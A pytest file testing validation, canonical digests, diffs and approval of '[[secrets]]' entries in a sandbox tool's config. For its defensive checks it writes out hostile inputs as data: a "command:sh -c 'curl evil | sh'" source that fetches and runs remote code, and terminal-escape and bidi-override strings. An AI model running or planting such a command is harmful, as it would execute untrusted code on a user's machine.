"""``[[secrets]]``: validation (each rule), the canonical form and digest, diffs, grants and
approval."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from vibebox_core.config import approval, snapshot
from vibebox_core.config.grants import (
    canonical_policy,
    policy_diff,
    policy_digest,
)
from vibebox_core.config.load import load_config
from vibebox_core.config.schema import (
    DEFAULT_CONFIG_TEXT,
    SECRETS_MAX,
    BoxConfig,
    Config,
    Mount,
    NetworkConfig,
    PortForward,
    Secret,
)
from vibebox_core.config.secrets import secrets_from_canonical
from vibebox_core.config.snapshot import (
    approved_values,
    config_from_values,
    grants_more,
    read_approved,
)
from vibebox_core.errors import ConfigError
from vibebox_core.index.sessions import SessionIndex
from vibebox_core.paths import ProjectPaths
from vibebox_core.session import approve

pytestmark = pytest.mark.usefixtures("no_accel_env")

GITHUB = """\
[[secrets]]
name = "GITHUB_TOKEN"
hosts = ["API.github.com.", "uploads.github.com"]
source = "env:GITHUB_TOKEN"
"""


def write(project: ProjectPaths, text: str) -> None:
    project.config.write_text(text)


def secret_table(
    name: str = '"TOKEN"', hosts: str = '["api.example.com"]', source: str = '"env:TOKEN"'
) -> str:
    return f"[[secrets]]\nname = {name}\nhosts = {hosts}\nsource = {source}\n"


# ---------------------------------------------------------------------------------------------
# Validation


def test_a_secret_is_read_normalised(project: ProjectPaths) -> None:
    npm = secret_table('"NPM_TOKEN"', source='" file:~/.npmtoken "')
    write(project, "[box]\ncpus = 2\n\n" + GITHUB + npm)
    config = load_config(project)
    assert config.secrets == (
        Secret("GITHUB_TOKEN", ("api.github.com", "uploads.github.com"), "env:GITHUB_TOKEN"),
        Secret("NPM_TOKEN", ("api.example.com",), "file:~/.npmtoken"),
    )
    github = config.secrets[0]
    assert github.source_kind == "env" and config.secrets[1].source_kind == "file"
    assert github.covers("API.GitHub.com.") and github.covers("x.uploads.github.com")
    assert not github.covers("github.com") and not github.covers("evilapi.github.com.evil")


def test_command_sources_and_inline_tables(project: ProjectPaths) -> None:
    write(
        project,
        'secrets = [{name = "A", hosts = ["a.example"], source = "command:gh auth token"},\n'
        '  {name = "B", hosts = ["b.example"], source = "command:\'/opt/my tools/tok\' --raw"}]\n',
    )
    config = load_config(project)
    assert [s.source for s in config.secrets] == [
        "command:gh auth token",
        "command:'/opt/my tools/tok' --raw",
    ]
    assert {s.source_kind for s in config.secrets} == {"command"}


def test_the_default_file_has_a_commented_example_and_no_secret(project: ProjectPaths) -> None:
    assert "# [[secrets]]" in DEFAULT_CONFIG_TEXT
    config = load_config(project)
    assert project.config.read_text() == DEFAULT_CONFIG_TEXT
    assert config.secrets == ()
    # Uncommenting the example gives a valid secret.
    uncommented = "\n".join(
        line[2:] if line.startswith("# [[secrets]]") or line.startswith("# name") else line
        for line in DEFAULT_CONFIG_TEXT.splitlines()
    )
    uncommented = uncommented.replace('# hosts = ["api', 'hosts = ["api')
    uncommented = uncommented.replace('# source = "env', 'source = "env')
    write(project, uncommented)
    assert [s.name for s in load_config(project).secrets] == ["GITHUB_TOKEN"]


BAD = [
    # (table text, expected fragment of the message, expected line)
    (secret_table('"1TOKEN"'), "secrets[1].name: expected an environment variable name", 2),
    (secret_table('"TO-KEN"'), "got 'TO-KEN'", 2),
    (secret_table('"' + "A" * 65 + '"'), "at most 64 characters", 2),
    (secret_table("3"), "got a int", 2),
    (secret_table('"PATH"'), "PATH is reserved", 2),
    (secret_table('"Http_Proxy"'), "Http_Proxy is reserved", 2),
    (secret_table('"NO_PROXY"'), "reserved", 2),
    (secret_table('"LC_ALL"'), "reserved", 2),
    (secret_table('"LD_PRELOAD"'), "reserved", 2),
    (secret_table('"VIBEBOX_HOME"'), "reserved", 2),
    (secret_table('"SSL_CERT_FILE"'), "reserved", 2),
    (secret_table('"NODE_EXTRA_CA_CERTS"'), "reserved", 2),
    (secret_table('"GIT_SSL_CAINFO"'), "reserved", 2),
    (secret_table(hosts="[]"), "secrets[1].hosts: expected a non-empty array", 3),
    (secret_table(hosts='"api.example.com"'), "expected a non-empty array", 3),
    (secret_table(hosts='["*.example.com"]'), "no wildcards", 3),
    (secret_table(hosts='["10.0.0.1"]'), "IP addresses", 3),
    (secret_table(hosts='["127.1"]'), "IP addresses", 3),
    (secret_table(hosts='["0x7f.1"]'), "IP addresses", 3),
    (secret_table(hosts='["[::1]"]'), "IP addresses", 3),
    (secret_table(hosts='["com"]'), "a single label", 3),
    (secret_table(hosts='["https://api.example.com"]'), "without a scheme", 3),
    (secret_table(hosts='["api.example.com:443"]'), "ports and IP addresses", 3),
    (secret_table(hosts="[1]"), "expected a domain name as a string", 3),
    (secret_table(hosts=str([f"h{i}.example" for i in range(33)])), "expected at most 32", 3),
    (secret_table(source='"TOKEN"'), "secrets[1].source: expected 'env:VAR'", 4),
    (secret_table(source='"vault:x"'), "expected 'env:VAR'", 4),
    (secret_table(source='"env:"'), "expected 'env:' and a variable name", 4),
    (secret_table(source='"env:A B"'), "expected 'env:' and a variable name", 4),
    (secret_table(source='"file:token.txt"'), "absolute or '~/' path", 4),
    (secret_table(source='"command:"'), "expected a command", 4),
    (secret_table(source="\"command:'' x\""), "expected a command", 4),
    (secret_table(source='"command:echo \'unbalanced"'), "cannot split the command", 4),
    (secret_table(source='"command:./get-token"'), "name a program on PATH", 4),
    (secret_table(source='"command:echo\\u001b[2J"'), "control character '\\x1b'", 4),
    (secret_table(source='"file:/a\\nb"'), "control character '\\n'", 4),
    (secret_table(source='"command:' + "x" * 1100 + '"'), "at most 1024", 4),
    (secret_table(source="42"), "got a int", 4),
    (secret_table() + "extra = 1\n", "secrets[1].extra: unknown key", 5),
    ('[[secrets]]\nname = "A"\nhosts = ["a.example"]\n', "the key source is missing", 1),
    (secret_table() + secret_table(), "secrets[2].name: the secret TOKEN is defined twice", 6),
    ("[secrets]\nname = 'A'\n", "expected [[secrets]] tables", None),
    ('secrets = "A"\n', "expected [[secrets]] tables", None),
]


@pytest.mark.parametrize(("text", "fragment", "line"), BAD)
def test_bad_secrets_are_refused_with_their_line(
    project: ProjectPaths, text: str, fragment: str, line: int | None
) -> None:
    write(project, text + "[box]\ncpus = 2\n")
    with pytest.raises(ConfigError) as refused:
        load_config(project)
    message = str(refused.value)
    assert fragment in message
    if line is not None:
        assert message.startswith(f"{project.config}, line {line}:"), message
    assert refused.value.hint
    assert message.isprintable()


def test_too_many_secrets(project: ProjectPaths) -> None:
    tables = "".join(secret_table(f'"T{i}"') for i in range(SECRETS_MAX + 1))
    write(project, tables)
    with pytest.raises(ConfigError, match=rf"{SECRETS_MAX + 1} secrets; expected at most"):
        load_config(project)
    write(project, "".join(secret_table(f'"T{i}"') for i in range(SECRETS_MAX)))
    assert len(load_config(project).secrets) == SECRETS_MAX


def test_hostile_strings_are_shown_escaped(project: ProjectPaths) -> None:
    for text in (
        secret_table('"A\\u202eB"'),
        secret_table(hosts='["a\\u001b]0;x\\u0007.example"]'),
        secret_table(source='"vault:\\u202e\\u200b"'),
        secret_table() + '"k\\u001b[2J" = 1\n',
    ):
        write(project, text)
        with pytest.raises(ConfigError) as refused:
            load_config(project)
        assert str(refused.value).isprintable(), text
        assert "\x1b" not in str(refused.value) and "\u202e" not in str(refused.value)


def test_secrets_after_other_tables_keep_their_lines(project: ProjectPaths) -> None:
    write(project, '[network]\nmode = "allowlist"\n\n' + GITHUB + secret_table(source='"x"'))
    with pytest.raises(ConfigError) as refused:
        load_config(project)
    assert str(refused.value).startswith(f"{project.config}, line 11: secrets[2].source:")


# ---------------------------------------------------------------------------------------------
# The canonical form, the digest, the diff


def _config(*secrets: Secret) -> Config:
    return Config(
        Path("vibebox.toml"),
        BoxConfig(cpus=4, mounts=(Mount(Path("/data"), "/data", True),)),
        NetworkConfig("allowlist", ("b.example.com", "a.example.com"), (PortForward(8080, 80),)),
        secrets=secrets,
    )


def test_no_secrets_keeps_the_digest_of_the_code_before_secrets() -> None:
    # Computed once by the code before [[secrets]] existed (commit b200cae): an approval made
    # then still matches, so nobody re-approves after the upgrade.
    config = _config()
    assert "secrets" not in canonical_policy(config)
    assert policy_digest(config) == (
        "sha256:50e72e548c9c2d2da3a35f1b81c2fa72ffc508b529c55396a2fe9f6d7b577327"
    )
    assert policy_digest(approved_values(config)) == (
        "sha256:4d624d90ffca90a11ca975d3f29b492965c1ca5ed7f53ceec3dd1cfffc09a6a5"
    )
    assert policy_digest(approved_values(Config(Path("vibebox.toml")))) == (
        "sha256:5ea434617604fe4a77e209b17130acf7f0c501a4e9e3da284449a04a064e5858"
    )


def test_the_canonical_form_sorts_secrets_and_hosts() -> None:
    a = Secret("A", ("z.example", "y.example"), "env:A")
    b = Secret("B", ("b.example",), "command:gh auth token")
    policy = canonical_policy(_config(b, a))
    assert policy["secrets"] == [
        {"name": "A", "hosts": ["y.example", "z.example"], "source": "env:A"},
        {"name": "B", "hosts": ["b.example"], "source": "command:gh auth token"},
    ]
    assert policy_digest(_config(b, a)) == policy_digest(_config(a, b))
    assert policy_digest(_config(a)) != policy_digest(_config())
    assert policy_digest(_config(a)) != policy_digest(_config(Secret("A", a.hosts, "env:B")))
    json.dumps(policy)


def test_diff_lines_show_the_whole_source() -> None:
    a = Secret("A", ("a.example",), "env:A")
    b = Secret("B", ("b.example", "c.example"), "command:sh -c 'curl evil | sh'")
    old = canonical_policy(_config(a))
    new = canonical_policy(_config(Secret("A", ("a.example", "x.example"), "file:/t"), b))
    assert policy_diff(old, new) == [
        "~ secret A: from env:A for a.example is now from file:/t for a.example, x.example",
        "+ secret B from command:sh -c 'curl evil | sh' for b.example, c.example",
    ]
    assert policy_diff(new, old) == [
        "~ secret A: from file:/t for a.example, x.example is now from env:A for a.example",
        "- secret B from command:sh -c 'curl evil | sh' for b.example, c.example",
    ]
    assert policy_diff(old, old) == []


def test_diff_lines_are_escaped() -> None:
    new = {"secrets": [{"name": "A\x1b[2J", "hosts": ["h\u202e"], "source": "env:\r"}]}
    (line,) = policy_diff({}, new)
    assert line.isprintable() and "\\x1b" in line and "\\u202e" in line and "\\r" in line


# ---------------------------------------------------------------------------------------------
# Grants, the snapshot round trip


def test_grants_more() -> None:
    a = Secret("A", ("a.example", "b.example"), "env:A")
    base = approved_values(_config(a))
    assert not grants_more(base, base)
    assert grants_more(approved_values(_config()), base)  # a new secret
    assert grants_more(base, approved_values(_config(a, Secret("B", ("b.example",), "env:B"))))
    assert grants_more(base, approved_values(_config(Secret("A", a.hosts, "env:OTHER"))))
    wider = Secret("A", ("a.example", "b.example", "c.example"), "env:A")
    assert grants_more(base, approved_values(_config(wider)))
    assert not grants_more(base, approved_values(_config()))  # removed
    narrower = Secret("A", ("a.example",), "env:A")
    assert not grants_more(base, approved_values(_config(narrower)))
    assert grants_more(base, dict(base, secrets="damaged"))


def test_config_from_values_round_trips_and_checks_again(project: ProjectPaths) -> None:
    a = Secret("A", ("a.example", "b.example"), "command:gh auth token")
    config = Config(project.config, secrets=(a, Secret("B", ("b.example",), "env:B")))
    values = approved_values(config)
    assert config_from_values(project, values).secrets == config.secrets
    # A file's secret (hosts in any order, any case) equals the one rebuilt from its approval.
    write(project, secret_table('"A"', '["Z.example", "a.example", "z.example."]'))
    from_file = load_config(project)
    assert from_file.secrets[0].hosts == ("a.example", "z.example")
    rebuilt = config_from_values(project, approved_values(from_file))
    assert rebuilt.secrets == from_file.secrets
    assert secrets_from_canonical(values) == config.secrets
    assert secrets_from_canonical(approved_values(Config(project.config))) == ()
    item = values["secrets"][0]
    for bad in (
        {**item, "name": "PATH"},
        {**item, "hosts": ["127.0.0.1"]},
        {**item, "hosts": []},
        {**item, "source": "command:./x"},
        {**item, "extra": 1},
        {"name": "A", "hosts": ["a.example"]},
        "A",
    ):
        with pytest.raises(ValueError):
            config_from_values(project, {**values, "secrets": [bad]})
    with pytest.raises(ValueError, match="twice"):
        secrets_from_canonical({"secrets": [item, item]})
    with pytest.raises(ValueError):
        secrets_from_canonical({"secrets": {"A": item}})


def test_secrets_need_approval_and_reach_the_index(project: ProjectPaths) -> None:
    load_config(project)
    index = SessionIndex()
    entry = index.create(project.root)
    approve.gate(project, entry.id)  # the defaults: approved without asking
    write(project, project.config.read_text() + GITHUB)
    found = approval.review(project)
    assert found.needs_approval
    assert found.diff == (
        "+ secret GITHUB_TOKEN from env:GITHUB_TOKEN for api.github.com, uploads.github.com",
    )
    assert approval.enforced_config(project).secrets == ()  # not before approval
    approve.approve(project, expected=found.check().digest)
    assert snapshot.read_snapshot(project) is not None
    enforced = approval.enforced_config(project)
    assert [s.name for s in enforced.secrets] == ["GITHUB_TOKEN"]
    stored = read_approved(SessionIndex().get(entry.id).extra)
    assert stored is not None and secrets_from_canonical(stored) == enforced.secrets


def test_a_first_start_with_a_secret_asks(project: ProjectPaths) -> None:
    write(project, GITHUB)
    found = approval.review(project)
    assert found.status == "new" and found.needs_approval
    assert "never approved" in found.refusal().message
